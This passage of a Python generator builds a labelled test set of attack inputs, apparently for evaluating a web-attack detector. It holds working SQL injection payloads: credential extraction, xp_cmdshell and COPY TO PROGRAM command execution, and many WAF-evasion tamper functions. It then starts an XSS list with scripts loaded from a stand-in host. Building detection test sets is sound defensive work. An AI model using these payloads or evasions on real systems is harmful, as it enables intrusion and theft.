"""Blind set "ninetythird": what automated exploitation tools send once they have found an input, with their
evasion options on, and what real users type into the same inputs.

Angle: a tool has found one parameter of this product and now works it with its whole kit. Each family is the
output of one kind of tool, its techniques crossed with its evasion transformations:
- sqli: an SQL injection tool's boolean, error, time, UNION and stacked payloads for MySQL, PostgreSQL, MSSQL,
  Oracle and SQLite, untampered (sqli-boolean-blind, sqli-error-based, sqli-time-blind, sqli-union-query,
  sqli-stacked-queries) and through each tamper transformation known to the author (sqli-tamper-<name>: spaces
  to comments, dashes, hashes or other blanks; random, lower case; versioned and zero-versioned comments;
  keywords doubled or split by comments; equals to LIKE, RLIKE, BETWEEN, IN, GREATEST, LEAST; quotes masked as
  full-width, null-prefixed, multibyte or char() forms; percent, double, unicode, overlong and HTML encodings;
  base64 wrapping; IF/IFNULL to CASE; CONCAT to CONCAT_WS and + to CONCAT / {fn CONCAT}; MID and LIMIT without
  commas; SUBSTRING to LEFT/RIGHT; UNION variants; a parameter flood for Lua-nginx argument limits).
- xss: an XSS tool's reflection and DOM probes and its filter-evasion mutations (xss-<technique>: script tags,
  img/media error handlers, handlers across HTML5 tags, SVG and MathML containers, srcdoc, javascript: scheme
  obfuscations, case and whitespace tricks, entity and URL encodings, backticks, template literals, attribute
  breakouts, link/meta/base/form vectors, CSS vectors, JavaScript obfuscation, polyglots).
- rce: a command-injection tool's separators crossed with its techniques (cmdi-<technique>: results-based,
  time-based, file-based, newline separators; $IFS, brace expansion, quoting, variable slices, wildcards,
  base64 and hex decoding pipelines; Windows results, time and obfuscation; PowerShell -enc).
- lfi: a traversal tool's depth and encoding ladders (lfi-<encoding>: dot-dot slash and backslash, URL,
  double, overlong UTF-8 and %u encodings, nested dot-dots, null bytes, path truncation, ..;/, absolute,
  Windows and UNC paths).
- php: the PHP stream wrappers those tools try (php://filter and its iconv chains, php://input, data:,
  expect:, zip:, phar:) and a command-injection tool's eval-based PHP payloads.
- rfi: remote inclusion URLs with their truncation tricks (?, #, %00), ftp, UNC and numeric hosts.
- ssti: a template-injection tool's engine-detection probes and exploitation payloads for Jinja2, Twig,
  Freemarker, Velocity, Thymeleaf/SpEL, ERB, Smarty, Mako, Handlebars and Pug (ssti-<engine>).
- java: a Java scanner's JNDI lookups and their obfuscations, OGNL, EL and SpEL probes, Spring class-loader
  binding (java-<technique>).
- generic: an SSRF tool's address forms (ssrf-<form>: decimal, octal, hex, IPv6-mapped, short forms, DNS
  rebinding names, URL-parser confusion, cloud metadata, gopher://, dict://).

Placements, spread evenly over every family (each record's `placement`): "query" (GET /api/users?<name>=..),
"form" (POST /admin/users/search with csrf_token), "json" (POST /api/users), "oauth-form" (POST /oauth/token, a
grant request with the payload in one field), "cookie", "header:User-Agent", "header:Referer",
"header:X-Forwarded-For", "param-name" (the payload as a query or form parameter's name) and "path"
(GET /api/users/<payload>). Requests carry a browser's headers (the tools' random-agent option). A tamper whose
output is already a wire form (percent codes, blanks as %09 ...) is sent as such, not encoded again.

Benign half: what real users type into the same inputs: names with apostrophes and accents, searches with
quotes and operators, addresses, file names, URLs, code snippets in chat and bios (Slack messages), OAuth
grant requests, consent and preference cookies, real browsers' and SDKs' User-Agents, referrers, proxy
chains in X-Forwarded-For, framework parameter names (filter[...], $filter, q[..._cont]) and resource paths.

Authorship and independence: written from the author's general knowledge of how these tools behave and of the
brief alone (no tool source, payload list, ruleset or ruleset test was read, and no other blind set); measured
once, on unchanged code, with no payload changed afterwards. Deterministic: every random choice comes from a
seeded random.Random.
"""

from __future__ import annotations

import base64
import json
import random
import re
import urllib.parse
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

from .family_gen_blind_php import chat_and_bio
from .records import print_records

NAME = "ninetythird"

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 "
    "Safari/537.36 Edg/125.0.2535.92",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.71 "
    "Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
]
ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
ALL_DB = frozenset({"mysql", "pgsql", "mssql", "oracle", "sqlite"})


@dataclass(frozen=True)
class Item:
    """One attack payload: its family, sub-family, the string, and whether it is already in wire form (percent
    codes a tool emits itself, sent verbatim rather than encoded again)."""

    cat: str
    sub: str
    payload: str
    wire: bool = False


# ---------------------------------------------------------------------------------------------------------------
# SQL injection: the tool's base payloads per DBMS and technique

@dataclass(frozen=True)
class Base:
    db: str
    tech: str   # boolean, error, time, union, stacked
    text: str


SQL_BASE = [
    # MySQL
    Base("mysql", "boolean", "1 AND 5831=5831"),
    Base("mysql", "boolean", "1' AND 4471=4471 AND 'KbZr'='KbZr"),
    Base("mysql", "boolean", "1 AND ORD(MID((SELECT IFNULL(CAST(COUNT(*) AS NCHAR),0x20) FROM "
                             "INFORMATION_SCHEMA.SCHEMATA),1,1))>51"),
    Base("mysql", "boolean", "1 AND ORD(MID((SELECT IFNULL(CAST(username AS NCHAR),0x20) FROM appdb.users "
                             "ORDER BY id LIMIT 0,1),3,1))>96"),
    Base("mysql", "error", "1 AND EXTRACTVALUE(6612,CONCAT(0x5c,0x71787a7671,(SELECT (ELT(6612=6612,1))),"
                           "0x716a707a71))"),
    Base("mysql", "error", "1' AND (SELECT 3114 FROM(SELECT COUNT(*),CONCAT(0x7170766b71,(SELECT "
                           "(ELT(3114=3114,1))),0x71786a6271,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS "
                           "GROUP BY x)a)-- qLWz"),
    Base("mysql", "error", "1 AND UPDATEXML(2853,CONCAT(0x2e,0x716b627671,(SELECT (ELT(2853=2853,1))),"
                           "0x7176786b71),7740)"),
    Base("mysql", "time", "1 AND (SELECT 8471 FROM (SELECT(SLEEP(5)))hXoq)"),
    Base("mysql", "time", "1' AND SLEEP(5) AND 'pqEr'='pqEr"),
    Base("mysql", "time", "1 AND 4188=IF((4188=4188),SLEEP(5),4188)"),
    Base("mysql", "time", "1 AND IF(ORD(MID(DATABASE(),1,1))>100,SLEEP(5),0)"),
    Base("mysql", "time", "1 AND 3928=BENCHMARK(5000000,MD5(0x6e4a4f4c))"),
    Base("mysql", "union", "1 UNION ALL SELECT NULL,CONCAT(0x7176707a71,IFNULL(CAST(CURRENT_USER() AS NCHAR),"
                           "0x20),0x716b6a7871),NULL-- -"),
    Base("mysql", "union", "-4291' UNION ALL SELECT NULL,CONCAT(0x71,username,0x3a,pass_hash,0x71),NULL FROM "
                           "appdb.users-- -"),
    Base("mysql", "stacked", "1;SELECT SLEEP(5)#"),
    # PostgreSQL
    Base("pgsql", "boolean", "1 AND 2908=2908"),
    Base("pgsql", "boolean", "1') AND 3390=(SELECT 3390 FROM GENERATE_SERIES(1,1)) AND ('Jkwe'='Jkwe"),
    Base("pgsql", "boolean", "1 AND ASCII(SUBSTRING((COALESCE(CAST(CURRENT_USER AS VARCHAR(10000))::text,"
                             "(CHR(32)))) FROM 1 FOR 1))>112"),
    Base("pgsql", "boolean", "1 AND ASCII(SUBSTRING((SELECT usename FROM pg_user LIMIT 1)::text FROM 3 FOR 1))>"
                             "64"),
    Base("pgsql", "error", "1 AND 4915=CAST((CHR(113)||CHR(118)||CHR(120)||CHR(106)||CHR(113))||(SELECT (CASE "
                           "WHEN (4915=4915) THEN 1 ELSE 0 END))::text||(CHR(113)||CHR(107)||CHR(122)||CHR(112)||"
                           "CHR(113)) AS NUMERIC)"),
    Base("pgsql", "time", "1 AND 7730=(SELECT 7730 FROM PG_SLEEP(5))"),
    Base("pgsql", "time", "1' AND 6219=(SELECT 6219 FROM PG_SLEEP(5)) AND 'ZfQe'='ZfQe"),
    Base("pgsql", "union", "1 UNION ALL SELECT NULL,(CHR(113)||CHR(120)||CHR(118)||CHR(113))||COALESCE(CAST("
                           "CURRENT_USER AS VARCHAR(10000))::text,(CHR(32)))||(CHR(113)||CHR(106)||CHR(113)),NULL-- -"),
    Base("pgsql", "stacked", "1;SELECT PG_SLEEP(5)--"),
    Base("pgsql", "stacked", "1';COPY (SELECT '') TO PROGRAM 'ping -c 5 127.0.0.1'--"),
    # Microsoft SQL Server
    Base("mssql", "boolean", "1 AND 6364=6364"),
    Base("mssql", "boolean", "1 AND UNICODE(SUBSTRING((ISNULL(CAST(DB_NAME() AS NVARCHAR(4000)),CHAR(32))),2,1))"
                             ">100"),
    Base("mssql", "error", "1 AND 4328 IN (SELECT (CHAR(113)+CHAR(107)+CHAR(118)+CHAR(113)+(SELECT (CASE WHEN "
                           "(4328=4328) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(113)+CHAR(122)+CHAR(113)))"),
    Base("mssql", "error", "1 AND 5671=CONVERT(INT,(SELECT CHAR(113)+CHAR(118)+(SELECT (CASE WHEN (5671=5671) "
                           "THEN CHAR(49) ELSE CHAR(48) END))+CHAR(113)))"),
    Base("mssql", "time", "1 WAITFOR DELAY '0:0:5'"),
    Base("mssql", "time", "1);IF(SYSTEM_USER=CHAR(115)+CHAR(97)) WAITFOR DELAY '0:0:5'--"),
    Base("mssql", "union", "1 UNION ALL SELECT NULL,CHAR(113)+CHAR(120)+ISNULL(CAST(@@VERSION AS NVARCHAR(4000)),"
                           "CHAR(32))+CHAR(113)+CHAR(106),NULL-- "),
    Base("mssql", "union", "1' UNION ALL SELECT CHAR(113)+CHAR(106)+ISNULL(CAST(SYSTEM_USER AS NVARCHAR(4000)),"
                           "CHAR(32))+CHAR(113),NULL-- "),
    Base("mssql", "stacked", "1';WAITFOR DELAY '0:0:5'--"),
    Base("mssql", "stacked", "1;EXEC master..xp_cmdshell 'ping -n 6 127.0.0.1'--"),
    # Oracle
    Base("oracle", "boolean", "1 AND 8122=8122"),
    Base("oracle", "boolean", "1 AND ASCII(SUBSTRC((SELECT NVL(CAST(USER AS VARCHAR(4000)),CHR(32)) FROM DUAL),"
                              "1,1))>80"),
    Base("oracle", "error", "1 AND 5237=CTXSYS.DRITHSX.SN(5237,(CHR(113)||CHR(120)||(SELECT (CASE WHEN "
                            "(5237=5237) THEN 1 ELSE 0 END) FROM DUAL)||CHR(113)||CHR(107)))"),
    Base("oracle", "error", "1 AND 2144=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||CHR(113)||(SELECT (CASE WHEN "
                            "(2144=2144) THEN 1 ELSE 0 END) FROM DUAL)||CHR(113)||CHR(62))) FROM DUAL)"),
    Base("oracle", "time", "1 AND 4512=DBMS_PIPE.RECEIVE_MESSAGE(CHR(80)||CHR(113)||CHR(76)||CHR(102),5)"),
    Base("oracle", "union", "1 UNION ALL SELECT NULL,CHR(113)||CHR(118)||USER||CHR(113)||CHR(106),NULL FROM "
                            "DUAL-- "),
    Base("oracle", "union", "1' UNION ALL SELECT NULL,(SELECT banner FROM v$version WHERE ROWNUM=1),NULL FROM "
                            "DUAL-- "),
    Base("oracle", "stacked", "1;BEGIN DBMS_LOCK.SLEEP(5); END;--"),
    # SQLite
    Base("sqlite", "boolean", "1 AND 7215=7215"),
    Base("sqlite", "boolean", "1' AND 9013=9013 AND 'mNoP'='mNoP"),
    Base("sqlite", "boolean", "1 AND UNICODE(SUBSTR((SELECT COALESCE(name,CHAR(32)) FROM sqlite_master WHERE "
                              "type=CHAR(116,97,98,108,101) LIMIT 0,1),1,1))>96"),
    Base("sqlite", "error", "1 AND 3150=CASE WHEN (3150=3150) THEN 3150 ELSE LOAD_EXTENSION(1) END"),
    Base("sqlite", "time", "1 AND 6120=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(500000000/2))))"),
    Base("sqlite", "union", "1 UNION ALL SELECT NULL,'qkvzq'||SQLITE_VERSION()||'qjxpq',NULL-- "),
    Base("sqlite", "union", "-7340' UNION ALL SELECT NULL,GROUP_CONCAT(sql),NULL FROM sqlite_master-- "),
    Base("sqlite", "stacked", "1;SELECT LIKE(CHAR(65,66,67),UPPER(HEX(RANDOMBLOB(500000000/2))))--"),
]

KEYWORD = re.compile(r"(?<![A-Za-z0-9_'$@.])([A-Z][A-Z_]+)(?![A-Za-z0-9_'])")


def _kw(s: str, fn: Callable[[str, str], str]) -> str:
    """Each upper-case SQL word replaced by fn(word, rest of the string after it)."""
    return KEYWORD.sub(lambda m: fn(m.group(1), m.string[m.end():]), s)


def _rand_word(rng: random.Random, lo: int = 3, hi: int = 8) -> str:
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in
                   range(rng.randint(lo, hi)))


def _pre(s: str) -> str:
    """The characters a wire-form tamper must encode itself before it adds its own percent codes."""
    return s.replace("%", "%25").replace("+", "%2B").replace("&", "%26").replace("#", "%23")


def _spaces(s: str, rng: random.Random, choices: list[str] | Callable[[random.Random], str]) -> str:
    out = []
    for c in s:
        if c == " ":
            out.append(choices(rng) if callable(choices) else rng.choice(choices))
        else:
            out.append(c)
    return "".join(out)


def _match_paren(s: str, i: int) -> int:
    """The index of the ')' closing the '(' at i (quotes skipped), or -1."""
    depth = 0
    quote = ""
    for j in range(i, len(s)):
        c = s[j]
        if quote:
            if c == quote:
                quote = ""
        elif c in "'\"":
            quote = c
        elif c == "(":
            depth += 1
        elif c == ")":
            depth -= 1
            if depth == 0:
                return j
    return -1


def _top_level(s: str, chars: str) -> list[int]:
    """Positions of `chars` outside parentheses and quotes."""
    out = []
    depth = 0
    quote = ""
    for j, c in enumerate(s):
        if quote:
            if c == quote:
                quote = ""
        elif c in "'\"":
            quote = c
        elif c == "(":
            depth += 1
        elif c == ")":
            depth -= 1
        elif depth == 0 and c in chars:
            out.append(j)
    return out


def _split_top(s: str, sep: str) -> list[str]:
    cuts = _top_level(s, sep)
    parts, last = [], 0
    for c in cuts:
        parts.append(s[last:c])
        last = c + 1
    parts.append(s[last:])
    return parts


def _calls(s: str, name: str, fn: Callable[[list[str]], str]) -> str:
    """Every call name(args...) rewritten by fn(args), innermost calls first."""
    pat = re.compile(rf"(?<![A-Za-z0-9_]){name}\(")
    out, i = [], 0
    while True:
        m = pat.search(s, i)
        if not m:
            out.append(s[i:])
            return "".join(out)
        end = _match_paren(s, m.end() - 1)
        if end < 0:
            out.append(s[i:])
            return "".join(out)
        args = [_calls(a, name, fn) for a in _split_top(s[m.end():end], ",")]
        out.append(s[i:m.start()])
        out.append(fn(args))
        i = end + 1


def _plus_chains(s: str, wrap: Callable[[list[str]], str]) -> str:
    """MSSQL string chains a+b+c (inside every group) rewritten as wrap([a, b, c])."""
    rebuilt, j = "", 0
    quote = ""
    while j < len(s):
        c = s[j]
        if quote:
            rebuilt += c
            quote = "" if c == quote else quote
            j += 1
            continue
        if c in "'\"":
            quote = c
        if c == "(":
            k = _match_paren(s, j)
            if k > 0:
                rebuilt += "(" + _plus_chains(s[j + 1:k], wrap) + ")"
                j = k + 1
                continue
        rebuilt += c
        j += 1
    segs = []
    for seg in _split_top(rebuilt, ","):
        pluses = _top_level(seg, "+")
        if pluses:
            spaces = _top_level(seg, " =<>")
            a = max([p for p in spaces if p < pluses[0]], default=-1)
            b = min([p for p in spaces if p > pluses[-1]], default=len(seg))
            seg = seg[:a + 1] + wrap(_split_top(seg[a + 1:b], "+")) + seg[b:]
        segs.append(seg)
    return ",".join(segs)


def _modsec(s: str, rng: random.Random, version: str) -> str:
    head, _, rest = s.partition(" ")
    tail = ""
    for c in ("-- -", "-- ", "--", "#"):
        if rest.endswith(c):
            rest, tail = rest[: -len(c)], c
            break
    return f"{head} /*!{version}{rest}*/{tail or '--'}"


def _doubled(word: str, _rest: str) -> str:
    half = len(word) // 2
    return word[:half] + word + word[half:] if len(word) > 1 else word


def _randomcomments(word: str, rng: random.Random) -> str:
    if len(word) < 3:
        return word
    cut = rng.randint(1, len(word) - 1)
    return word[:cut] + "/**/" + word[cut:]


def _between(s: str) -> str:
    s = re.sub(r"(\d+)=(\d+)", r"\1 BETWEEN \2 AND \2", s)
    s = re.sub(r"'(\w+)'='(\w+)'", r"'\1' BETWEEN '\2' AND '\2'", s)
    return re.sub(r"\)>(\d+)", r") NOT BETWEEN 0 AND \1", s)


def _greatest(s: str) -> str:
    def repl(m: re.Match[str]) -> str:
        start = _open_of(s, m.start())
        left = s[start:m.start() + 1]
        return f"GREATEST({left},{int(m.group(1)) + 1})={left}"
    return _rewrite_gt(s, repl)


def _least(s: str) -> str:
    def repl(m: re.Match[str]) -> str:
        start = _open_of(s, m.start())
        left = s[start:m.start() + 1]
        return f"LEAST({left},{int(m.group(1)) + 1})={int(m.group(1)) + 1}"
    return _rewrite_gt(s, repl)


def _open_of(s: str, close: int) -> int:
    """The start of the call whose ')' is at `close` (its function name included)."""
    depth = 0
    for j in range(close, -1, -1):
        if s[j] == ")":
            depth += 1
        elif s[j] == "(":
            depth -= 1
            if depth == 0:
                k = j
                while k > 0 and (s[k - 1].isalnum() or s[k - 1] == "_"):
                    k -= 1
                return k
    return 0


def _rewrite_gt(s: str, repl: Callable[[re.Match[str]], str]) -> str:
    m = re.search(r"\)>(\d+)", s)
    if not m:
        return s
    start = _open_of(s, m.start())
    return s[:start] + repl(m) + s[m.end():]


def _if2case(args: list[str]) -> str:
    if len(args) != 3:
        return "IF(" + ",".join(args) + ")"
    return f"CASE WHEN ({args[0]}) THEN ({args[1]}) ELSE ({args[2]}) END"


def _substring2leftright(args: list[str]) -> str:
    inner = args[0]
    m = re.match(r"^(.*) FROM (\d+) FOR 1$", inner, re.S)
    if not m:
        return "SUBSTRING(" + ",".join(args) + ")"
    expr, pos = m.group(1), int(m.group(2))
    if pos == 1:
        return f"LEFT({expr},1)"
    return f"LEFT(RIGHT({expr},-{pos - 1}),1)"


def _hex2char(s: str) -> str:
    def repl(m: re.Match[str]) -> str:
        raw = bytes.fromhex(m.group(1))
        return "CONCAT(" + ",".join(f"CHAR({b})" for b in raw) + ")"
    return re.sub(r"0x([0-9a-f]{2,})", repl, s)


def _quotes2char(db: str) -> Callable[[str], str]:
    def repl(m: re.Match[str]) -> str:
        codes = [ord(c) for c in m.group(1)]
        if db in ("pgsql", "oracle"):
            return "(" + "||".join(f"CHR({c})" for c in codes) + ")"
        if db == "mssql":
            return "(" + "+".join(f"CHAR({c})" for c in codes) + ")"
        return "CHAR(" + ",".join(str(c) for c in codes) + ")"
    return lambda s: re.sub(r"'([A-Za-z0-9]{2,})'", repl, s)


def _overlong(c: str) -> str:
    o = ord(c)
    return f"%{0xC0 | (o >> 6):02X}%{0x80 | (o & 0x3F):02X}"


def _scientific(s: str) -> str:
    return re.sub(r"(?<=[A-Z0-9_])\(", " 1.e(", s).replace(",", " 1.e,")


def _sp_password(s: str) -> str:
    if "--" in s:
        return s.rstrip() + " sp_password"
    return s + "-- sp_password"


def _unmagic(s: str) -> str:
    out = _pre(s).replace("'", "%BF%27")
    return out if re.search(r"(--[ -]*|#|%23)$", out) else out + "-- -"


Tamper = tuple[str, frozenset[str], Callable[[str, random.Random, str], str], bool]


def _t(fn: Callable[[str], str]) -> Callable[[str, random.Random, str], str]:
    return lambda s, _rng, _db: fn(s)


def _tr(fn: Callable[[str, random.Random], str]) -> Callable[[str, random.Random, str], str]:
    return lambda s, rng, _db: fn(s, rng)


MY = frozenset({"mysql"})
MS = frozenset({"mssql"})
TAMPERS: list[Tamper] = [
    ("space2comment", ALL_DB, _t(lambda s: s.replace(" ", "/**/")), False),
    ("space2morecomment", ALL_DB, _t(lambda s: s.replace(" ", "/**_**/")), False),
    ("space2plus", ALL_DB, _t(lambda s: _pre(s).replace(" ", "+")), True),
    ("space2randomblank", ALL_DB, _tr(lambda s, r: _spaces(_pre(s), r, ["%09", "%0A", "%0C", "%0D"])), True),
    ("space2dash", frozenset({"mssql", "sqlite"}), _tr(lambda s, r: _spaces(s, r, lambda x: "--" + _rand_word(x)
                                                                            + "\n")), False),
    ("space2hash", MY, _tr(lambda s, r: _spaces(_pre(s), r, lambda x: "%23" + _rand_word(x) + "%0A")), True),
    ("space2morehash", MY, _tr(lambda s, r: _spaces(_pre(s), r, lambda x: "%23" + _rand_word(x, 6, 12) + "%0A")),
     True),
    ("space2mssqlblank", MS, _tr(lambda s, r: _spaces(_pre(s), r, [f"%{i:02X}" for i in range(1, 16)])), True),
    ("space2mssqlhash", MS, _t(lambda s: _pre(s).replace(" ", "%23%0A")), True),
    ("space2mysqlblank", MY, _tr(lambda s, r: _spaces(_pre(s), r, ["%09", "%0A", "%0B", "%0C", "%0D", "%A0"])),
     True),
    ("space2mysqldash", frozenset({"mysql", "mssql"}), _t(lambda s: _pre(s).replace(" ", "--%0A")), True),
    ("multiplespaces", ALL_DB, _tr(lambda s, r: _spaces(s, r, lambda x: " " * x.randint(2, 6))), False),
    ("randomcase", ALL_DB, _tr(lambda s, r: _kw(s, lambda w, _x: "".join(
        c.upper() if r.random() < 0.5 else c.lower() for c in w))), False),
    ("lowercase", ALL_DB, _t(lambda s: _kw(s, lambda w, _x: w.lower())), False),
    ("randomcomments", ALL_DB, _tr(lambda s, r: _kw(s, lambda w, _x: _randomcomments(w, r))), False),
    ("keyword-doubling", ALL_DB, _t(lambda s: _kw(s, _doubled)), False),
    ("versionedkeywords", MY, _t(lambda s: _kw(s, lambda w, rest: w if rest.startswith("(") else f"/*!{w}*/")),
     False),
    ("versionedmorekeywords", MY, _t(lambda s: _kw(s, lambda w, _x: f"/*!{w}*/")), False),
    ("halfversionedmorekeywords", MY, _t(lambda s: re.sub(r" (?=[A-Z][A-Z_]+)", "/*!0", s)), False),
    ("modsecurityversioned", MY, _tr(lambda s, r: _modsec(s, r, "3" + str(r.randint(1000, 9999)))), False),
    ("modsecurityzeroversioned", MY, _tr(lambda s, r: _modsec(s, r, "00000")), False),
    ("equaltolike", ALL_DB, _t(lambda s: s.replace("=", " LIKE ")), False),
    ("equaltorlike", MY, _t(lambda s: s.replace("=", " RLIKE ")), False),
    ("between", ALL_DB, _t(_between), False),
    ("equal2in", ALL_DB, _t(lambda s: re.sub(r"(\d+)=(\d+)", r"\1 IN (\2)", s)), False),
    ("greatest", frozenset({"mysql", "pgsql", "oracle"}), _t(_greatest), False),
    ("least", frozenset({"mysql", "pgsql", "oracle"}), _t(_least), False),
    ("symboliclogical", frozenset({"mysql", "pgsql"}), _t(lambda s: _pre(s).replace(" AND ", " %26%26 ")
                                                          .replace(" OR ", " %7C%7C ")), True),
    ("apostrophemask", ALL_DB, _t(lambda s: _pre(s).replace("'", "%EF%BC%87")), True),
    ("apostrophenullencode", ALL_DB, _t(lambda s: _pre(s).replace("'", "%00%27")), True),
    ("unmagicquotes", MY, _t(_unmagic), True),
    ("escapequotes", ALL_DB, _t(lambda s: s.replace("'", "\\'")), False),
    ("quotes2char", ALL_DB, lambda s, _r, db: _quotes2char(db)(s), False),
    ("hex2char", MY, _t(_hex2char), False),
    ("charencode", ALL_DB, _t(lambda s: "".join(f"%{ord(c):02X}" for c in s)), True),
    ("chardoubleencode", ALL_DB, _t(lambda s: "".join(f"%25{ord(c):02X}" for c in s)), True),
    ("charunicodeencode", frozenset({"mssql", "mysql"}), _t(lambda s: "".join(f"%u00{ord(c):02X}" for c in s)),
     True),
    ("charunicodeescape", ALL_DB, _t(lambda s: "".join(f"\\u00{ord(c):02X}" for c in s)), False),
    ("percentage", MS, _t(lambda s: "".join("%" + c if c.isalpha() else _pre(c) for c in s)), True),
    ("overlongutf8", ALL_DB, _t(lambda s: "".join(c if c.isalnum() else _overlong(c) for c in s)), True),
    ("htmlencode", ALL_DB, _t(lambda s: "".join(c if c.isalnum() else f"&#{ord(c)};" for c in s)), False),
    ("hexentities", ALL_DB, _t(lambda s: "".join(f"&#x{ord(c):x};" for c in s)), False),
    ("appendnullbyte", ALL_DB, _t(lambda s: _pre(s) + "%00"), True),
    ("base64encode", ALL_DB, _t(lambda s: base64.b64encode(s.encode()).decode()), False),
    ("if2case", frozenset({"mysql"}), _t(lambda s: _calls(s, "IF", _if2case)), False),
    ("ifnull2ifisnull", MY, _t(lambda s: _calls(s, "IFNULL", lambda a: f"IF(ISNULL({a[0]}),{a[1]},{a[0]})")),
     False),
    ("ifnull2casewhenisnull", MY, _t(lambda s: _calls(
        s, "IFNULL", lambda a: f"CASE WHEN ISNULL({a[0]}) THEN ({a[1]}) ELSE ({a[0]}) END")), False),
    ("concat2concatws", MY, _t(lambda s: s.replace("CONCAT(", "CONCAT_WS(MID(CHAR(0),0,0),")), False),
    ("plus2concat", MS, _t(lambda s: _plus_chains(s, lambda p: "CONCAT(" + ",".join(p) + ")")), False),
    ("plus2fnconcat", MS, _t(lambda s: _plus_chains(s, lambda p: "{fn CONCAT(" + ",".join(p) + ")}")), False),
    ("sleep2getlock", MY, _t(lambda s: re.sub(r"SLEEP\((\d+)\)", r"GET_LOCK('ETgP',\1)", s)), False),
    ("commalessmid", MY, _t(lambda s: _calls(s, "MID", lambda a: f"MID({a[0]} FROM {a[1]} FOR {a[2]})")), False),
    ("commalesslimit", frozenset({"mysql", "sqlite"}), _t(lambda s: re.sub(r"LIMIT (\d+),(\d+)",
                                                                           r"LIMIT \2 OFFSET \1", s)), False),
    ("substring2leftright", frozenset({"pgsql"}), _t(lambda s: _calls(s, "SUBSTRING", _substring2leftright)),
     False),
    ("ord2ascii", MY, _t(lambda s: s.replace("ORD(", "ASCII(")), False),
    ("informationschemacomment", MY, _t(lambda s: s.replace("INFORMATION_SCHEMA.", "INFORMATION_SCHEMA/**/.")),
     False),
    ("schemasplit", MY, _t(lambda s: s.replace("appdb.users", "appdb 9.e.users")), False),
    ("sp_password", MS, _t(_sp_password), False),
    ("unionalltounion", ALL_DB, _t(lambda s: s.replace("UNION ALL SELECT", "UNION SELECT")), False),
    ("dunion", frozenset({"oracle"}), _t(lambda s: s.replace(" UNION ", "DUNION ")), False),
    ("misunion", MY, _t(lambda s: s.replace(" UNION ", "-.1UNION ")), False),
    ("0eunion", MY, _t(lambda s: s.replace(" UNION ", "e0UNION ")), False),
    ("scientific", MY, _t(_scientific), False),
    ("binary", MY, _t(lambda s: re.sub(r"(\d+)=(\d+)", r"binary \1=binary \2", s)), False),
    ("bluecoat", MY, _t(lambda s: re.sub(r"(?<=[A-Z]) ", "%09", _pre(s)).replace("=", " LIKE ")), True),
    ("commentbeforeparentheses", ALL_DB, _t(lambda s: re.sub(r"(?<=[A-Za-z0-9_])\(", "/**/(", s)), False),
]
QUOTE_TAMPERS = {"apostrophemask", "apostrophenullencode", "unmagicquotes", "escapequotes", "quotes2char"}
LUA_NGINX = "luanginx"   # the parameter flood, handled by the placements (see luanginx_params)
PER_TAMPER = 5


def sqli_items() -> list[Item]:
    items = []
    for tech, sub in (("boolean", "sqli-boolean-blind"), ("error", "sqli-error-based"),
                      ("time", "sqli-time-blind"), ("union", "sqli-union-query"), ("stacked", "sqli-stacked-queries")):
        bases = [b for b in SQL_BASE if b.tech == tech]
        items += [Item("sqli", sub, b.text) for b in bases[::2]]
    for k, (name, dbs, fn, wire) in enumerate(TAMPERS):
        rng = random.Random(f"{NAME}-{name}")
        cands = [b for b in SQL_BASE if b.db in dbs and ("'" in b.text or name not in QUOTE_TAMPERS)
                 and fn(b.text, random.Random(0), b.db) != (_pre(b.text) if wire else b.text)]
        step = max(1, len(cands) // PER_TAMPER)
        chosen = [cands[(k + i * step) % len(cands)] for i in range(min(PER_TAMPER, len(cands)))]
        seen: set[str] = set()
        for b in chosen:
            out = fn(b.text, rng, b.db)
            if out in seen:
                continue
            seen.add(out)
            items.append(Item("sqli", f"sqli-tamper-{name}", out, wire))
    for i in range(PER_TAMPER):
        b = SQL_BASE[(7 * i + 3) % len(SQL_BASE)]
        items.append(Item("sqli", f"sqli-tamper-{LUA_NGINX}", b.text))
    return items


# ---------------------------------------------------------------------------------------------------------------
# XSS: the tool's probes, then its mutations by technique

XSS: dict[str, list[str]] = {
    "xss-reflection-probe": [
        "dlfx7\"'<>", "qxss91'\"><qxss91>", "\"'><v3dm0s", "x5s</title><x5s>", "zq'\"`<>{}zq",
        "jsdc\"-->`;</script><jsdc>", "k9t'\"><!--", "rfl%22%27%3C%3E",
    ],
    "xss-script-tag": [
        "<script>alert(1)</script>", "<ScRiPt>confirm(document.domain)</sCrIpT>",
        "</script><script>prompt(1)</script>", "<script src=//xss.example/h.js></script>",
        "<script>alert`1`</script>", "\"><script>alert(String.fromCharCode(88,83,83))</script>",
        "<script/x>alert(1)</script>", "<script\t>alert(1)</script\t>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script>/*</script><script>*/alert(1)</script>", "<SCRIPT SRC=https://xss.example/x.js?<B>",
    ],
    "xss-img-media-error": [
        "<img src=x onerror=alert(1)>", "\"><img src=x onerror=confirm(1) class=dalfox>",
        "<img/src/onerror=prompt(1)>", "<IMG SRC=x OnErRoR=alert(document.cookie)>",
        "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
